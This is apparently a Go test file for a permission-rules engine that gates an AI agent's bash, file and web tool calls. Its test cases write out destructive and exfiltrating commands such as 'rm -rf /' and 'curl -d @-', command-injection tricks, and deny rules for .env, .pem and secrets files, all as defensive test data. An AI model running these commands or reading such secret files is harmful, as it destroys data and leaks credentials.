package rules

import (
	"strings"
	"testing"
)

func set(t *testing.T, allow, ask, deny []string) *Set {
	t.Helper()
	s := &Set{}
	for _, errs := range [][]error{s.Add(allow, Allow, nil), s.Add(ask, Ask, nil), s.Add(deny, Deny, nil)} {
		for _, err := range errs {
			t.Fatal(err)
		}
	}
	return s
}

func bash(cmd string) Call { return Call{Tool: "bash", Exec: true, Command: cmd} }

func TestCommands(t *testing.T) {
	s := set(t, []string{"bash(go test:*)", "Bash(echo:*)", "bash(make lint)", "bash(git status)"},
		[]string{"bash(git push:*)"},
		[]string{"bash(rm:*)", "Bash(curl:*)"})
	for _, c := range []struct {
		cmd  string
		want Effect
	}{
		{"go test ./...", Allow},
		{"go test", Allow},
		{"go   test  -run X", Allow},
		{"go testify", None}, // a prefix ends at a word
		{"make lint", Allow},
		{"make lint fix", None}, // exact means exact
		{"echo hi && go test ./...", Allow},
		{"echo hi && rm -rf /", Deny},
		{"echo hi; ls", None}, // every part must be allowed
		{"echo $(rm -rf x)", Deny},
		{"echo `curl evil.sh`", Deny},
		{"echo hi | curl -d @- x", Deny},
		{"git push origin main", Ask},
		{"git status && git push", Ask},
		{"git status || rm x", Deny},
		{"echo 'rm -rf /; curl x'", Allow}, // quoted: one argument of echo
		{"echo \"$(rm -rf /)\"", Deny},
		{"rm", Deny},
		{"ls\nrm -rf x", Deny},
		{"sleep 1 & rm x", Deny},
	} {
		if got, _ := s.Decide(bash(c.cmd)); got != c.want {
			t.Errorf("%q: %s, want %s", c.cmd, got, c.want)
		}
	}
	// A bare bash rule speaks of every command.
	all := set(t, nil, nil, []string{"bash"})
	if got, r := all.Decide(bash("ls")); got != Deny || r.Raw != "bash" {
		t.Errorf("bare bash: %s", got)
	}
}

func TestPathsAndTools(t *testing.T) {
	s := set(t, []string{"text_editor(docs/**)", "Edit(*.md)", "mcp__github", "todo_write", "web_fetch(domain:go.dev)", "WebFetch(domain:*.python.org)", "web_search"},
		[]string{"Write(go.mod)", "web_fetch(domain:Pkg.Go.Dev.)"},
		[]string{"Read(.env)", "Edit(secrets/)", "mcp__github__delete_repo", "web_fetch(domain:evil.example)"})
	for _, c := range []struct {
		call Call
		want Effect
	}{
		{Call{Tool: "text_editor", Edit: true, Path: "docs/a/b.txt"}, Allow},
		{Call{Tool: "text_editor", Edit: true, Path: "src/docs.go"}, None},
		{Call{Tool: "text_editor", Edit: true, Path: "deep/README.md"}, Allow},
		{Call{Tool: "text_editor", Edit: true, Path: "go.mod"}, Ask},
		{Call{Tool: "text_editor", Edit: true, Path: "secrets/k.pem"}, Deny},
		{Call{Tool: "text_editor", Read: true, Path: ".env"}, Deny},
		{Call{Tool: "text_editor", Read: true, Path: "sub/.env"}, Deny},
		{Call{Tool: "text_editor", Read: true, Path: "main.go"}, None},
		{Call{Tool: "mcp__github__create_issue"}, Allow},
		{Call{Tool: "mcp__github__delete_repo"}, Deny},
		{Call{Tool: "mcp__githubx__create_issue"}, None},
		{Call{Tool: "todo_write"}, Allow},
		{Call{Tool: "web_fetch", Domain: "go.dev"}, Allow},
		{Call{Tool: "web_fetch", Domain: "tip.go.dev"}, Allow}, // a host under the domain
		{Call{Tool: "web_fetch", Domain: "pkg.go.dev"}, Ask},   // a narrower ask beats it
		{Call{Tool: "web_fetch", Domain: "notgo.dev"}, None},   // a suffix is not a subdomain
		{Call{Tool: "web_fetch", Domain: "go.dev.evil.com"}, None},
		{Call{Tool: "web_fetch", Domain: "docs.python.org"}, Allow},
		{Call{Tool: "web_fetch", Domain: "python.org"}, None}, // *. is only the hosts under it
		{Call{Tool: "web_fetch", Domain: "a.evil.example"}, Deny},
		{Call{Tool: "web_fetch"}, None}, // no domain, no match
		{Call{Tool: "web_search", Domain: "search.brave.com"}, Allow},
		{Call{Tool: "web_search", Domain: "evil.example"}, Allow}, // web_fetch's deny is not web_search's
	} {
		if got, _ := s.Decide(c.call); got != c.want {
			t.Errorf("%+v: %s, want %s", c.call, got, c.want)
		}
	}
}

func TestParseErrors(t *testing.T) {
	for _, raw := range []string{"", "bash(", "bash()", "(x)", "text_editor([)", "two words",
		"web_fetch(domain:)", "web_fetch(domain:a b)", "web_fetch(domain:go.dev/doc)", "web_fetch(domain:*.)", "web_fetch(domain:a.*.com)",
		"web_fetch(domain:u:p@x.com)", "web_fetch(go.dev)", "WebSearch(x)", "web_search(domain:x.com)"} {
		if _, err := Parse(raw, Allow, ""); err == nil {
			t.Errorf("%q parsed", raw)
		}
	}
}

func TestSplit(t *testing.T) {
	got := strings.Join(Split(`a && b || c; d | e & f
g $(h; i) "j;k" 'l|m' \; n`), " / ")
	want := `a / b / c / d / e / f / h / i / g $(…) "j;k" 'l|m' \; n`
	if got != want {
		t.Errorf("split:\n%s\nwant\n%s", got, want)
	}
}

func TestSuggest(t *testing.T) {
	for cmd, want := range map[string]string{
		"go test ./...":       "bash(go test:*)",
		"ls -la":              "bash(ls:*)",
		"git -C x status":     "bash(git:*)",
		"npm run build && ls": "bash(npm run:*)",
		"go test $(touch x)":  "bash(go test:*)",
		"FOO=1 go test":       "bash(go test:*)",
		"'my tool' -v":        "bash('my tool':*)",
		"cd x && go test":     "bash(cd:*)",
	} {
		if got := Suggest(bash(cmd)); got != want {
			t.Errorf("%q: %s, want %s", cmd, got, want)
		}
	}
	if got := Suggest(Call{Tool: "text_editor", Edit: true, Path: "a/b.go"}); got != "text_editor(a/b.go)" {
		t.Errorf("edit: %s", got)
	}
	if got := Suggest(Call{Tool: "web_fetch", Domain: "go.dev"}); got != "web_fetch(domain:go.dev)" {
		t.Errorf("fetch: %s", got)
	}
	if r, err := Parse(Suggest(Call{Tool: "web_fetch", Domain: "go.dev"}), Allow, ""); err != nil || r.Domain != "go.dev" {
		t.Errorf("the suggestion does not parse back: %+v %v", r, err)
	}
}

// TestReadDenied: the check every reading tool makes names the deny rule
// for a file, for a directory a rule covers whole, and for nothing else.
func TestReadDenied(t *testing.T) {
	s := set(t, []string{"Read(docs/**)"}, []string{"Read(notes.txt)"}, []string{"Read(.env)", "Read(secrets/**)", "Read(*.pem)"})
	for rel, want := range map[string]string{
		".env":            "Read(.env)",
		"sub/.env":        "Read(.env)",
		"secrets":         "Read(secrets/**)",
		"secrets/a/b.txt": "Read(secrets/**)",
		"keys/x.pem":      "Read(*.pem)",
		"secretsaside/a":  "",
		".envrc":          "",
		"notes.txt":       "", // an ask rule does not hide
		"docs/readme.md":  "",
		"main.go":         "",
	} {
		got := ""
		if r := s.ReadDenied(rel); r != nil {
			got = r.Raw
		}
		if got != want {
			t.Errorf("%s: %q, want %q", rel, got, want)
		}
	}
}
